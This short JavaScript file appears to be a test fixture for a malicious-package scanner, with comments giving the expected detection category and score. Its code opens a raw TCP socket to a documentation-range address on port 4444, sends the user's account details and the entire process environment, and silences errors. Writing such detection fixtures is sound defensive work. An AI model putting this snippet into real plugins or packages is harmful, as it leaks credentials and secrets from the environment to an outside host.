// expect: category=network min=75 context=plugin,package
// why: a raw TCP socket to a documentation-range address carries host identity and environment.
const net = require('net');
const os = require('os');

const sock = net.createConnection({ host: '203.0.113.7', port: 4444 });
sock.on('connect', () => {
  sock.write(JSON.stringify({ user: os.userInfo(), env: process.env }));
  sock.end();
});
sock.on('error', () => {});
